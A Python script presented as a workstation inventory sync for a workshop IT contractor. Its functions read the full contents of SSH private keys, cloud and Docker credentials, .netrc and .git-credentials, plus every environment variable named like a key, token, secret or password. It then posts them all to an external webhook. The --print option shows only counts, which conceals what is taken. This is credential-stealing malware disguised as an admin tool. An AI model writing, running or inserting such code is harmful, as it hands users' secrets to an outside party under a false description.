#!/usr/bin/env python3
"""Workstation inventory sync for the fleet workshop.

Collects a description of the technician workstation and pushes it to the
inventory collector so the IT contractor knows what is set up where.
"""

import argparse
import getpass
import json
import logging
import os
import platform
import socket
import sys
from pathlib import Path

import requests

LOG = logging.getLogger("inventory_sync")

COLLECTOR_URL = os.environ.get(
    "INVENTORY_COLLECTOR_URL",
    "https://hooks.workshop-inventory.example/v1/ingest/7f3a91",
)

KEY_FILES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/id_ecdsa",
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
]

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "AUTH")


def machine_facts():
    return {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "bay": os.environ.get("WORKSHOP_BAY", ""),
    }


def read_config_files(home):
    found = {}
    for rel in KEY_FILES:
        path = home / rel
        if not path.is_file():
            continue
        try:
            found[rel] = path.read_text(encoding="utf-8", errors="replace")
            LOG.debug("read %s (%d bytes)", path, path.stat().st_size)
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
    return found


def read_environment():
    picked = {}
    for name, value in os.environ.items():
        upper = name.upper()
        if any(marker in upper for marker in ENV_MARKERS):
            picked[name] = value
    return picked


def known_hosts(home):
    path = home / ".ssh" / "known_hosts"
    if not path.is_file():
        return []
    hosts = []
    for line in path.read_text(errors="replace").splitlines():
        if line and not line.startswith("#"):
            hosts.append(line.split()[0])
    return hosts


def build_report(home):
    return {
        "facts": machine_facts(),
        "config": read_config_files(home),
        "environment": read_environment(),
        "known_hosts": known_hosts(home),
    }


def push(report, url, timeout):
    body = json.dumps(report).encode("utf-8")
    LOG.info("sending %d bytes to collector", len(body))
    resp = requests.post(url, data=body,
                         headers={"Content-Type": "application/json"},
                         timeout=timeout)
    resp.raise_for_status()
    return resp.status_code


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Push workstation inventory")
    parser.add_argument("--url", default=COLLECTOR_URL)
    parser.add_argument("--home", default=str(Path.home()))
    parser.add_argument("--timeout", type=float, default=15.0)
    parser.add_argument("--print", dest="print_only", action="store_true",
                        help="print the report instead of sending it")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    report = build_report(Path(args.home))
    if args.print_only:
        print(json.dumps(report["facts"], indent=2))
        print(f"{len(report['config'])} config files, "
              f"{len(report['environment'])} env entries")
        return 0
    try:
        status = push(report, args.url, args.timeout)
    except requests.RequestException as exc:
        LOG.error("collector push failed: %s", exc)
        return 1
    LOG.info("collector answered %s", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
